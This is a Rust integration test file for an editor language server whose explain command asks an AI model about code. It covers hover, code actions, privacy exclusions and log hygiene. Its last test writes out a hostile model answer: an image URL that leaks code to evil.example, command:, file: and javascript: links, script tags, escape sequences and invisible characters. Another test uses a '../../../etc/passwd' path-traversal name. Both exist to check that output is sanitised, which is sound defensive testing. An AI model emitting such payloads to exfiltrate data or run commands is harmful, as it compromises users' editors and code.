//! `aiex.explain`, hover and the code actions: what an editor's user sees of an explanation.

use aiex_tests::{
    binary::Home,
    client::{Client, Profile, at},
    upstream::Upstream,
};
use serde_json::{Value, json};

use crate::scene::{PLANTED, SHOP, Scene, URI, token};

const OFFLINE: &str = "no model was asked";

#[test]
fn with_nothing_configured_the_parse_explains_and_says_that_it_does() {
    let mut scene = Scene::offline(Profile::vscode());
    scene.explain("add");
    let explanation = scene.client.shown_text();
    assert!(explanation.lines().next().is_some_and(|line| line.contains(OFFLINE)), "{explanation}");
    for fact in ["Shop.add/2", "check"] {
        assert!(explanation.contains(fact), "{fact} in {explanation}");
    }
}

#[test]
fn the_next_hover_has_the_explanation_below_the_facts() {
    let mut scene = Scene::offline(Profile::vscode());
    let facts = scene.hover("add").unwrap();
    assert!(!facts.contains(OFFLINE), "{facts}");
    scene.explain("add");
    let explanation = scene.client.shown_text();
    let after = scene.hover("add").unwrap();
    assert!(after.starts_with(&facts) && after.contains(explanation.trim()), "{after}");
    // That of the one symbol only.
    assert!(!scene.hover("check").unwrap().contains(OFFLINE));
    assert!(!scene.hover("clear").unwrap().contains(OFFLINE));
}

#[test]
fn an_answer_to_the_users_own_words_is_for_that_once() {
    let upstream = Upstream::answering("Like a shopping bag.");
    let mut scene = Scene::with_model(&upstream);
    let place = scene.place("add");
    let mut argument = at(URI, &place);
    argument["instruction"] = "for a child".into();
    scene.client.run("aiex.explain", argument);
    assert!(scene.client.shown_text().contains("shopping bag"));
    assert!(upstream.requests()[0].prompt().contains("for a child"));
    assert!(!scene.hover("add").unwrap().contains("shopping bag"));
}

#[test]
fn an_explanation_dies_with_the_text_that_it_describes() {
    let mut scene = Scene::offline(Profile::vscode());
    scene.explain("add");
    scene.client.shown();
    assert!(scene.hover("add").unwrap().contains(OFFLINE));
    scene.edit("[checked | cart]", "cart ++ [checked]");
    assert!(!scene.hover("add").unwrap().contains(OFFLINE), "after an edit within");
    scene.undo();
    assert!(scene.hover("add").unwrap().contains(OFFLINE), "after undoing it");
    scene.edit("Adds an item.", "Puts an item in.");
    assert!(!scene.hover("add").unwrap().contains(OFFLINE), "after an edit of its documentation");
}

#[test]
fn an_explanation_outlives_an_edit_elsewhere() {
    let mut scene = Scene::offline(Profile::vscode());
    scene.explain("add");
    scene.client.shown();
    scene.edit("def clear(_cart), do: []", "def clear(_cart), do: nil");
    assert!(scene.hover("add").unwrap().contains(OFFLINE), "after an edit below");
    scene.edit("defmodule Shop do\n", "defmodule Shop do\n  # A line above.\n");
    let moved = json!({"line": 3, "character": 7});
    assert!(scene.client.hover(URI, &moved).unwrap().contains(OFFLINE), "after an edit above");
}

#[test]
fn an_explanation_asked_for_a_call_is_of_what_is_called() {
    let mut scene = Scene::offline(Profile::vscode());
    let call = scene.client.position(SHOP, SHOP.find("check(item").unwrap() + 1);
    scene.client.run("aiex.explain", at(URI, &call));
    assert!(scene.client.shown_text().contains("Shop.check/2"));
    assert!(scene.hover("check").unwrap().contains(OFFLINE));
}

#[test]
fn with_a_uri_alone_the_start_of_the_document_is_meant() {
    let mut scene = Scene::offline(Profile::vscode());
    scene.client.run("aiex.explain", json!({"uri": URI}));
    let explanation = scene.client.shown_text();
    assert!(explanation.contains("`Shop`"), "{explanation}");
}

#[test]
fn a_command_without_arguments_means_the_place_of_the_last_hover_or_menu() {
    let mut scene = Scene::offline(Profile::helix());
    scene.hover("check");
    scene.client.run("aiex.explain", Value::Null);
    assert!(scene.client.shown_text().contains("Shop.check/2"));
    scene.titles("clear");
    scene.client.run("aiex.explain", Value::Null);
    assert!(scene.client.shown_text().contains("Shop.clear/1"));
    scene.client.run("aiex.explain", json!({}));
    assert!(scene.client.shown_text().contains("Shop.clear/1"));
}

#[test]
fn progress_begins_once_and_ends_once() {
    let mut scene = Scene::offline(Profile::vscode());
    let run = scene.explain("add");
    scene.client.shown();
    assert_eq!(scene.client.next("window/workDoneProgress/create", |_| true)["token"], token(run));
    let progress = scene.client.progress(&token(run));
    let kinds: Vec<_> = progress.iter().map(|value| value["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds.first(), Some(&"begin"));
    assert_eq!(kinds.last(), Some(&"end"));
    assert!(kinds[1..kinds.len() - 1].iter().all(|kind| *kind == "report"), "{kinds:?}");
    assert_eq!(progress[0]["title"], "Aiex: Explain");
    assert_eq!(progress[0]["cancellable"], true);
}

#[test]
fn an_editor_without_progress_is_sent_none() {
    let mut scene = Scene::offline(Profile::vscode().capability("/window/workDoneProgress", Value::Null));
    scene.explain("add");
    scene.client.shown();
    scene.outcomes();
    assert_eq!(scene.client.all("window/workDoneProgress/create"), Vec::<Value>::new());
    assert_eq!(scene.client.all("$/progress"), Vec::<Value>::new());
}

#[test]
fn a_model_is_asked_as_its_interface_wants_and_its_streamed_answer_is_shown() {
    let upstream = Upstream::start();
    let mut scene = Scene::with_model(&upstream);
    let (run, mut exchange) = scene.ask("add", &upstream);
    let request = exchange.request.clone();
    assert_eq!(request.line, "POST /v1/chat/completions HTTP/1.1");
    assert_eq!(request.header("authorization"), Some("Bearer sk-test-0123456789"));
    assert_eq!(request.json()["model"], "m");
    assert_eq!(request.json()["stream"], true);
    let prompt = request.prompt();
    for part in ["def add(cart, item) do", PLANTED, "Shop.add/2"] {
        assert!(prompt.contains(part), "{part} in {prompt}");
    }
    assert!(!prompt.contains("def clear"), "of the rest of the file only what it has to do with: {prompt}");

    exchange.begin();
    exchange.delta("It puts ");
    scene.client.next("$/progress", |params| {
        params["token"] == token(run) && params["value"]["message"].as_str().is_some_and(|text| text.contains("bytes"))
    });
    exchange.delta("an item **in**.");
    exchange.finish();

    let document = scene.client.shown_text();
    for part in ["It puts an item **in**.", "Shop.add/2", "work/m"] {
        assert!(document.contains(part), "{part} in {document}");
    }
    assert!(scene.hover("add").unwrap().contains("It puts an item **in**."));
    assert_eq!(scene.outcomes(), (1, vec![]));
}

#[test]
fn a_model_is_told_the_path_within_the_workspace_and_nothing_of_the_computer() {
    let upstream = Upstream::answering("It adds.");
    let home = Home::with_config(&upstream.config());
    let workspace = std::path::Path::new("/home/somebody/secret customer");
    for profile in [Profile::vscode().workspace(workspace), Profile::vscode()] {
        let mut client = Client::start(&home, profile);
        let uri = "file:///home/somebody/secret%20customer/lib/shop.ex";
        client.open(uri, "elixir", SHOP);
        client.run("aiex.explain", json!({"uri": uri}));
        client.shown();
        let prompt = upstream.requests().last().unwrap().prompt();
        assert!(prompt.contains("shop.ex"), "{prompt}");
        assert!(!prompt.contains("somebody") && !prompt.contains("customer"), "{prompt}");
    }
}

#[test]
fn an_excluded_file_is_never_sent_however_the_editor_names_it() {
    let upstream = Upstream::answering("It keeps secrets.");
    let home = Home::with_config(&format!("{}[privacy]\nexclude = [\"**/secrets/**\"]\n", upstream.config()));
    let workspace = std::path::Path::new("/home/somebody/shop");
    for profile in [Profile::vscode().workspace(workspace), Profile::vscode()] {
        let mut client = Client::start(&home, profile);
        for uri in [
            "file:///home/somebody/shop/secrets/prod.exs",
            "file:///home/somebody/shop/%73ecrets/prod.exs",
            "git:/home/somebody/shop/secrets/prod.exs?%7B%22ref%22%3A%22HEAD%22%7D",
        ] {
            client.open(uri, "elixir", SHOP);
            client.run("aiex.explain", json!({"uri": uri}));
            client.message(&["prod.exs", "privacy.exclude", "offline"]);
        }
    }
    assert_eq!(upstream.requests().len(), 0);
}

#[test]
fn neither_code_nor_key_nor_answer_reaches_a_log() {
    let upstream = Upstream::answering("The answer says ANSWER_WORD.");
    let mut scene = Scene::with_model(&upstream);
    scene.explain("add");
    let document = scene.client.shown_text();
    assert!(document.contains("ANSWER_WORD"), "{document}");
    assert!(upstream.requests()[0].prompt().contains(PLANTED));
    let home = scene.client.home.clone();
    scene.client.shutdown();
    scene.client.notify("exit", Value::Null);
    assert_eq!(scene.client.exit_code(), 0);
    let log = scene.client.log() + &log_files(&home);
    assert!(log.contains("initialize"), "{log}");
    for secret in [PLANTED, "sk-test-0123456789", "ANSWER_WORD", "def add"] {
        assert!(!log.contains(secret), "{secret} in {log}");
    }
}

fn log_files(home: &Home) -> String {
    let files = std::fs::read_dir(home.path().join("state/logs")).expect("a folder of logs");
    files.map(|file| std::fs::read_to_string(file.unwrap().path()).expect("a log file")).collect()
}

#[test]
fn an_answer_that_comes_while_the_user_types_is_not_opened_but_kept() {
    let upstream = Upstream::start();
    let mut scene = Scene::with_model(&upstream);
    let (_, mut exchange) = scene.ask("add", &upstream);
    scene.edit("def clear(_cart), do: []", "def clear(_cart), do: nil");
    exchange.answer("It adds.");
    let message = scene.client.message(&["Shop.add/2", "Aiex: Open last answer"]);
    assert_eq!(message.kind, 3);
    assert_eq!(scene.outcomes(), (0, vec![message]));

    let place = scene.place("add");
    let actions = scene.client.code_actions(URI, &place, None);
    let open = actions.iter().find(|action| action["title"] == "Aiex: Open last answer").expect("the action");
    let params = json!({"command": open["command"]["command"], "arguments": open["command"]["arguments"]});
    scene.client.call("workspace/executeCommand", params);
    assert!(scene.client.shown_text().contains("It adds."));
    // It is still of the text that was explained.
    assert!(scene.hover("add").unwrap().contains("It adds."));
}

#[test]
fn an_answer_to_a_text_that_has_changed_since_is_not_hovered() {
    let upstream = Upstream::start();
    let mut scene = Scene::with_model(&upstream);
    let (_, mut exchange) = scene.ask("add", &upstream);
    scene.edit("[checked | cart]", "cart");
    exchange.answer("It adds.");
    scene.client.message(&["Aiex: Open last answer"]);
    assert!(!scene.hover("add").unwrap().contains("It adds."));
}

#[test]
fn an_editor_that_opens_no_documents_is_told_where_the_answer_is() {
    let cannot = Scene::offline(Profile::vscode().capability("/window/showDocument", Value::Null));
    let mut does_not = Scene::offline(Profile::vscode());
    does_not.client.set_reply("window/showDocument", json!({"success": false}));
    for mut scene in [cannot, does_not, Scene::offline(Profile::minimal())] {
        scene.explain("add");
        let message = scene.client.message(&["The answer is in "]);
        assert_eq!(message.kind, 3);
        let path = message.text.strip_prefix("The answer is in ").expect("a path at the end");
        let answer = std::fs::read_to_string(path).expect("the file that is named");
        assert!(answer.contains(OFFLINE), "{answer}");
    }
}

#[test]
fn answers_are_files_of_their_own_for_the_owner_alone_and_the_oldest_go() {
    let mut scene = Scene::offline(Profile::vscode());
    let mut shown = std::collections::HashSet::new();
    for _ in 0..52 {
        scene.explain("add");
        assert!(shown.insert(scene.client.shown()), "an answer took the place of another: {shown:?}");
    }
    let answers = scene.answers();
    assert_eq!(answers.len(), 50);
    #[cfg(unix)]
    for answer in answers {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!((mode(&answer), mode(answer.parent().unwrap())), (0o600, 0o700));
    }
}

#[test]
fn a_symbol_of_any_name_is_explained() {
    let mut client = Client::vscode();
    for name in ["世".repeat(90), "x".repeat(300), "𝔘".repeat(90)] {
        client.open("file:///work/a.rs", "rust", &format!("fn {name}() {{}}\n"));
        client.run("aiex.explain", at("file:///work/a.rs", &json!({"line": 0, "character": 4})));
        let text = client.shown_text();
        let start: String = name.chars().take(20).collect();
        assert!(text.contains(&start), "{text}");
    }
    client.open(URI, "elixir", "defmodule A do\n  test \"../../../etc/passwd\\0 a/b\", do: 1\nend\n");
    client.run("aiex.explain", at(URI, &json!({"line": 1, "character": 5})));
    let file = client.shown();
    assert_eq!(file.parent().unwrap(), client.home.path().join("state/answers").canonicalize().unwrap());
}

#[test]
fn code_actions_are_commands_with_aiex_in_front_that_need_no_resolve() {
    let mut scene = Scene::offline(Profile::vscode());
    let place = scene.place("add");
    let actions = scene.client.code_actions(URI, &place, None);
    assert!(!actions.is_empty() && actions.len() <= 6, "{actions:?}");
    for action in &actions {
        assert!(action["title"].as_str().unwrap().starts_with("Aiex: "), "{action}");
        assert!(["quickfix", "refactor.rewrite"].contains(&action["kind"].as_str().unwrap()), "{action}");
        assert!(action["command"]["command"].as_str().unwrap().starts_with("aiex."), "{action}");
        assert!(action.get("edit").is_none() && action.get("isPreferred").is_none(), "{action}");
    }
    let explain = &actions[0];
    assert_eq!(explain["title"], "Aiex: Explain");
    assert_eq!(explain["kind"], "refactor.rewrite");
    scene.client.call("workspace/executeCommand", explain["command"].clone());
    assert!(scene.client.shown_text().contains("Shop.add/2"));
}

#[test]
fn code_actions_obey_only() {
    let mut scene = Scene::offline(Profile::vscode());
    let place = scene.place("add");
    for (only, offered) in [
        (&["refactor.rewrite"][..], true),
        (&["refactor"], true),
        (&["quickfix", "refactor"], true),
        (&[""], true),
        (&["quickfix"], false),
        (&["source"], false),
        (&["source.fixAll", "source.organizeImports"], false),
        (&["refactor.extract"], false),
        (&["refactor.rewrite.more"], false),
        (&["ref"], false),
        (&["of.the.future"], false),
    ] {
        let actions = scene.client.code_actions(URI, &place, Some(only));
        assert_eq!(!actions.is_empty(), offered, "{only:?}: {actions:?}");
    }
}

#[test]
fn an_editor_without_code_action_literals_gets_commands() {
    let mut scene = Scene::offline(Profile::minimal());
    let place = scene.place("add");
    let actions = scene.client.code_actions(URI, &place, None);
    assert_eq!(actions[0]["title"], "Aiex: Explain");
    assert_eq!(actions[0]["command"], "aiex.explain");
    assert!(actions[0].get("kind").is_none());
    scene.client.call("workspace/executeCommand", actions[0].clone());
    scene.client.message(&["The answer is in "]);
}

#[test]
fn a_hover_is_of_the_kind_that_the_editor_shows() {
    for (formats, kind) in [
        (json!(["markdown"]), "markdown"),
        (json!(["plaintext", "markdown"]), "markdown"),
        (json!(["plaintext"]), "plaintext"),
        (Value::Null, "markdown"),
    ] {
        let profile = Profile::vscode().capability("/textDocument/hover/contentFormat", formats.clone());
        let mut scene = Scene::offline(profile);
        let place = scene.place("add");
        let hover = scene.client.call("textDocument/hover", at(URI, &place));
        assert_eq!(hover["contents"]["kind"], kind, "{formats}");
    }
}

#[test]
fn what_a_hostile_model_says_can_do_nothing() {
    let answer = "Before.\n\n\
        ![remote](https://evil.example/image.png?stolen=code)\n\n\
        [a command](command:workbench.action.terminal.new?%5B%5D)\n\n\
        [a file](file:///etc/passwd) and [script](javascript:alert(1)) and <vscode://x/y>\n\n\
        [split]\n\n[split]: command:aiex.cancel\n\n\
        <img src=\"https://evil.example/pixel\"><script>alert(1)</script><a href=\"command:x\">x</a>\n\n\
        \u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7} \u{9b}1m\u{8}\u{7}\n\n\
        \u{202e}reversed\u{202c} \u{2066}isolated\u{2069} zero\u{200b}width \u{e0041}tag\n\n\
        After.";
    let upstream = Upstream::answering(answer);
    let mut scene = Scene::with_model(&upstream);
    scene.explain("add");
    let document = scene.client.shown_text();
    let hover = scene.hover("add").unwrap();
    for text in [&document, &hover] {
        assert!(text.contains("Before.") && text.contains("After.") && text.contains("reversed"), "{text}");
        let hidden = |char: &char| {
            (char.is_control() && *char != '\n')
                || matches!(char, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
                || *char >= '\u{e0000}'
        };
        assert_eq!(text.chars().find(hidden), None, "{text:?}");
        for harm in ["![", "](command:", "](file:", "](javascript:", "]: command:"] {
            assert!(!text.contains(harm), "{harm} in {text}");
        }
        // Markup that is escaped is read, not obeyed.
        for (at, tag) in ["<img", "<script", "<a ", "<vscode:"].into_iter().flat_map(|tag| text.match_indices(tag)) {
            let escapes = text[..at].chars().rev().take_while(|char| *char == '\\').count();
            assert!(escapes % 2 == 1 || text[..at].ends_with('`'), "{tag} in {text}");
        }
    }
}
